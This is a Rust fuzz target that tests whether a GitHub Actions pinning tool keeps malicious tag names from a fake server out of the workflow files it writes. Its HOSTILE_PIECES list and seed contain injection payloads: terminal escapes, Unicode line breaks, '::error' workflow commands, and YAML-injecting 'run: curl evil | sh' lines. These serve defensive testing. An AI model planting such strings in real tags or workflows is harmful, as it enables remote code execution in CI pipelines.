//! `hostile-refs`: a server that names its tags to inject YAML or terminal escapes (issue 17).
//!
//! An input is a list of tag names, one per line (seeds: the recorded repositories' tags and
//! known hostile names). Each case also writes one of the characters harden must never pass on
//! (U+0085, U+2028, U+2029, CR, ESC, BEL, `#`, quotes, `::error`...) into a random name. The
//! names all point at the commit of `v1`, and the fake GitHub serves them over protocol v2, the
//! v0 advertisement, or the REST API (a name holding a line break also breaks the server's
//! answer apart: the answers are fuzzed too). pin-actions then pins `uses: fuzz/hN@v1`.
//!
//! Properties: the pin goes to the commit of `v1`; the written file is ASCII without control
//! characters, parses again, and its version comment is a safe tag name.

use std::sync::Arc;
use std::time::Duration;

use harden_github::{is_safe_ref_name, Resolver, ResolverConfig, ResolverMode};
use harden_testserver::{RecordedRepo, ServerOptions, TestServer};
use harden_transforms::pin_actions::{PinActions, PinOptions};
use harden_transforms::{FileKind, Repository, SourceFile, Transform};
use harden_yaml::Document;

use crate::engine::{CaseResult, Target};
use crate::mutate::Flavor;
use crate::rng::Rng;

const COMMIT: &str = "abcdefabcdefabcdefabcdefabcdefabcdefabcd";

/// What a hostile server writes into names.
pub const HOSTILE_PIECES: &[&str] = &[
    "\u{85}",
    "\u{2028}",
    "\u{2029}",
    "\r",
    "\n",
    "\u{1b}[31m",
    "\u{1b}]0;title\u{7}",
    "\u{7}",
    "\u{0}",
    "\u{7f}",
    "\u{202e}",
    "\u{feff}",
    " # ",
    "#",
    "'",
    "\"",
    ": ",
    "\n      - run: curl evil | sh\n",
    "\u{85}      - run: curl evil | sh",
    "::error ::owned",
    "%0A",
    "１",
    "é",
];

/// Known hostile names, one seed.
const HOSTILE_SEED: &str = "v1.0.0\nv1.0.1-a\u{85}      - run: curl evil | sh\nv1.0.2\u{2028}- run: x\nv1.0.3\u{1b}]0;t\u{7}\nv1.0.4\r::error ::x\nv1.0.5'\"\n";

/// The target.
pub struct HostileRefsTarget {
    seeds: Vec<Vec<u8>>,
    server: TestServer,
    resolvers: Vec<Arc<Resolver>>,
    root: tempfile::TempDir,
    cases: u64,
}

impl HostileRefsTarget {
    /// Starts the fake GitHub (no repositories until the cases add them) and three resolvers.
    pub fn new(repos: &[RecordedRepo]) -> std::io::Result<Self> {
        let mut seeds = vec![HOSTILE_SEED.as_bytes().to_vec()];
        for repo in repos.iter().take(40) {
            let names: Vec<&str> = repo.tags.keys().map(String::as_str).take(30).collect();
            if !names.is_empty() {
                seeds.push(format!("{}\n", names.join("\n")).into_bytes());
            }
        }
        let server = TestServer::start_with_repos(Vec::new(), ServerOptions::default(), 0)?;
        let mut resolvers = Vec::new();
        for mode in [ResolverMode::Git, ResolverMode::Api] {
            let config = ResolverConfig {
                server_url: server.url(),
                api_url: server.url(),
                mode,
                cache_dir: None,
                jobs: 1,
                timeout: Duration::from_secs(5),
                max_retries: 0,
                retry_backoff: Duration::ZERO,
                max_rate_limit_wait: Duration::ZERO,
                ..ResolverConfig::default()
            };
            resolvers.push(Arc::new(
                Resolver::new(config).map_err(std::io::Error::other)?,
            ));
        }
        Ok(HostileRefsTarget {
            seeds,
            server,
            resolvers,
            root: tempfile::tempdir()?,
            cases: 0,
        })
    }
}

/// Writes one hostile piece into one of the names (or adds it as a name of its own).
fn poison(names: &mut Vec<String>, choices: &mut Rng) {
    let piece = choices.pick(HOSTILE_PIECES).copied().unwrap_or("\u{85}");
    match choices.below(names.len() + 1) {
        i if i < names.len() => {
            let name = &mut names[i];
            let chars: Vec<char> = name.chars().collect();
            let at = choices.below(chars.len() + 1);
            let mut out: String = chars[..at].iter().collect();
            out.push_str(piece);
            out.extend(&chars[at..]);
            *name = out;
        }
        _ => names.push(format!("v1.9.9{piece}")),
    }
}

impl Target for HostileRefsTarget {
    fn name(&self) -> &'static str {
        "hostile-refs"
    }

    fn flavor(&self) -> Flavor {
        Flavor::Yaml
    }

    fn seeds(&self) -> &[Vec<u8>] {
        &self.seeds
    }

    fn run_case(&mut self, input: &[u8], choices: &mut Rng) -> CaseResult {
        self.cases += 1;
        let text = String::from_utf8_lossy(input);
        let mut names: Vec<String> = text
            .split('\n')
            .filter(|n| !n.is_empty())
            .take(200)
            .map(str::to_owned)
            .collect();
        poison(&mut names, choices);
        let repo_name = format!("fuzz/h{}", self.cases);
        let mut repo = RecordedRepo::new(&repo_name).with_tag("v1", COMMIT);
        for name in &names {
            if name != "v1" {
                repo = repo.with_tag(name, COMMIT);
            }
        }
        self.server.add_repo(repo);
        let v0 = choices.one_in(3);
        self.server.set_options(if v0 {
            ServerOptions::default().without_v2()
        } else {
            ServerOptions::default()
        });
        let resolver = match choices.one_in(3) {
            true => &self.resolvers[1],
            false => &self.resolvers[0],
        };
        let workflow = format!(
            "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: {repo_name}@v1\n"
        );
        let files = vec![SourceFile::new(
            std::path::PathBuf::from(".github/workflows/fuzz.yml"),
            FileKind::Workflow,
            workflow.clone(),
        )];
        let repository = Repository {
            root: self.root.path().to_path_buf(),
            files,
        };
        let outcome = PinActions::new(Arc::clone(resolver), PinOptions::default()).run(&repository);
        let Some(change) = outcome.changes.first() else {
            // The server's answer broke apart (a name with a line break): an error is fine.
            return Ok("not-pinned");
        };
        check_written(&change.after)
    }
}

/// The properties of a written file.
fn check_written(after: &str) -> CaseResult {
    if let Some(bad) = after
        .chars()
        .find(|c| !(c.is_ascii_graphic() || *c == ' ' || *c == '\n'))
    {
        return Err(format!("the file holds {bad:?} from the server:\n{after:?}").into());
    }
    Document::parse(after).map_err(|e| format!("the written file does not parse: {e}"))?;
    let line = after
        .lines()
        .find(|l| l.contains("uses:"))
        .ok_or("the uses line is gone")?;
    let Some((value, comment)) = line.split_once(" # ") else {
        return Err(format!("no version comment: {line:?}").into());
    };
    if !value.ends_with(&format!("@{COMMIT}")) {
        return Err(format!("pinned to another commit: {line:?}").into());
    }
    if !is_safe_ref_name(comment) {
        return Err(format!("unsafe version comment: {comment:?}").into());
    }
    Ok("pinned")
}
